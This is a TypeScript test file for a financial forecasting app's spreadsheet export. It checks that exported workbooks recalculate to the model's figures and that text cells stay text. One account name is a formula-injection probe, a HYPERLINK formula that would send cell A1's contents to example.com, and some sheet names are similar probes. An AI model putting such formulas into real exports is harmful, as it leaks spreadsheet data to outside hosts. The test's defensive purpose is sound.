import { type ModelInput, statementsOf } from '@millpond/core/statement'
import { flatten, type StatementKind, statementTable } from '@millpond/core/table'
import { addMonths } from '@millpond/core/time'
import { cellName, modelWorkbook, tableWorkbook, type Workbook } from '@millpond/core/workbook'
import { HyperFormula } from 'hyperformula'
import { describe, expect, it } from 'vitest'
import { writeWorkbook } from '../src/platform/workbook/write-workbook.ts'
import { type ReadCell, type ReadSheet, readWorkbook } from './_read-workbook.ts'
import { bytesOf, sampleForecast } from './_sample-forecast.ts'

/**
 * The hidden sheets have their months from column F on, the others to the right of their labels.
 */
const FIRST_MONTH = 5
const CODE_COLUMN = 1

/** A name of an account that a spreadsheet would run as a formula. */
const EVIL = '=HYPERLINK("http://example.com/?"&A1,"Sales")'

const { ledger, forecast } = sampleForecast()
const model = forecast.input
const input: ModelInput = {
  ...model,
  flows: model.flows.map((flow, at) => (at === 0 ? { ...flow, name: EVIL } : flow)),
}
const workbook = modelWorkbook(input, ['About', '=1+1', '@SUM(A1)', '-2 & more <text>'])
const written = async (content: Workbook = workbook) =>
  readWorkbook(await bytesOf(await writeWorkbook(content)))

/** The file as an independent spreadsheet engine computes it. */
function recalculated(sheets: readonly ReadSheet[]) {
  const engine = HyperFormula.buildEmpty({ licenseKey: 'gpl-v3' })
  for (const { name } of sheets) engine.addSheet(name)
  engine.suspendEvaluation()
  for (const { name, cells } of sheets) {
    const sheet = engine.getSheetId(name) ?? -1
    for (const [address, cell] of cells) {
      const at = engine.simpleCellAddressFromString(address, sheet)
      if (!at) throw new Error(`${address} is no address`)
      engine.setCellContents(at, raw(cell))
    }
  }
  engine.resumeEvaluation()
  return (name: string, row: number, column: number): unknown =>
    engine.getCellValue({ sheet: engine.getSheetId(name) ?? -1, row, col: column })
}

/** An apostrophe marks the following text as text in a spreadsheet. */
const raw = (cell: ReadCell): string | number => {
  if (cell.kind === 'number') return cell.number
  return cell.kind === 'formula' ? `=${cell.formula}` : `'${cell.text}`
}

const rowNamed = (sheet: ReadSheet | undefined, column: number, words: string): number => {
  for (const [address, cell] of sheet?.cells ?? []) {
    const row = Number(/\d+$/.exec(address)) - 1
    const isThere = cell.kind === 'text' && cell.text === words
    if (isThere && address === cellName(row, column)) return row
  }
  throw new Error(`No row ${words} on ${sheet?.name}`)
}

const exact = (amounts: ArrayLike<number>) => Array.from(amounts, amount => amount + 0)

describe('the sample’s model as an .xlsx file', () => {
  it('recalculates from the file alone to the model’s balances, cash rows and closing cash', async () => {
    const sheets = await written()
    const valueAt = recalculated(sheets)
    const sheetOf = (name: string) => sheets.find(sheet => sheet.name === name)
    const read = (name: string, row: number, first = FIRST_MONTH) =>
      input.months.map((_, month) => valueAt(name, row, first + month))
    const byCode = (name: string, code: string) =>
      read(name, rowNamed(sheetOf(name), CODE_COLUMN, code))
    const statements = statementsOf(input)
    expect(input.months).toHaveLength(36)
    expect(statements.balance.length).toBeGreaterThan(20)
    for (const { code, name, amounts } of statements.balance) {
      expect(byCode('Balances', code), name).toEqual(exact(amounts))
    }
    for (const { key, name, amounts } of statements.cash) {
      expect(byCode('Cash', key), name).toEqual(exact(amounts))
    }
    const closing = read('Cash flow', rowNamed(sheetOf('Cash flow'), 0, 'Closing balance'), 2)
    expect(closing.map(dollars => Math.round(Number(dollars) * 100))).toEqual(
      exact(statements.closingCash),
    )
    for (const row of [3, 4]) expect(read('Checks', row, 1)).toEqual(input.months.map(() => 0))
  }, 120_000)

  it('has every text as text, whatever its first character, and every formula as a formula', async () => {
    const sheets = await written()
    expect(sheets.map(({ name }) => name)).toEqual(workbook.sheets.map(({ name }) => name))
    let texts = 0
    for (const [at, { name, rows }] of workbook.sheets.entries()) {
      for (const [row, cells] of rows.entries()) {
        for (const [column, cell] of cells.entries()) {
          const address = cellName(row, column)
          const found = sheets[at]?.cells.get(address)
          if (cell && 'text' in cell && cell.text !== '') {
            texts += 1
            expect(found, `${name} ${address}`).toEqual({ kind: 'text', text: cell.text })
          }
          if (cell && 'formula' in cell) expect(found?.kind, `${name} ${address}`).toBe('formula')
        }
      }
    }
    expect(texts).toBeGreaterThan(200)
    const evil = sheets.flatMap(({ cells }) =>
      [...cells.values()].filter(cell => cell.kind === 'text' && cell.text === EVIL),
    )
    expect(evil.length).toBeGreaterThan(0)
  }, 120_000)
})

describe('a statement of the sample as an .xlsx file', () => {
  const HEAD_ROWS = 3
  const FIRST_COLUMN = 2

  it.each<StatementKind>(['cashFlow', 'profitAndLoss', 'balanceSheet'])(
    'recalculates to the figures on screen, totals as formulas: %s',
    async statement => {
      const table = statementTable({
        ...{ ledger, forecast, statement, period: 'month', comparisons: [], yearBeginsMonth: 4 },
        from: addMonths(ledger.closeMonth, -11),
        to: addMonths(ledger.closeMonth, 12),
      })
      const [sheet] = await written(tableWorkbook(table, 'Kererū Coffee Ltd'))
      if (!sheet) throw new Error('The file has no sheet')
      const valueAt = recalculated([sheet])
      const rows = flatten(table.rows)
      expect(rows.length).toBeGreaterThan(15)
      for (const [at, { name, amounts }] of rows.entries()) {
        const row = at + HEAD_ROWS
        const head = sheet.cells.get(cellName(row, 0))
        expect(head?.kind === 'text' && head.text.trim()).toBe(name)
        const found = table.columns.map((_, column) =>
          valueAt(sheet.name, row, FIRST_COLUMN + column),
        )
        const inCents = found.map(value =>
          value === null ? null : Math.round(Number(value) * 100),
        )
        expect(inCents.map(zeroIsZero), name).toEqual(amounts.map(zeroIsZero))
      }
      const formulas = [...sheet.cells.values()].filter(({ kind }) => kind === 'formula')
      expect(formulas.length).toBeGreaterThan(table.columns.length * 2)
    },
    120_000,
  )
})

const zeroIsZero = (amount: number | null) => (amount === null ? null : amount + 0)
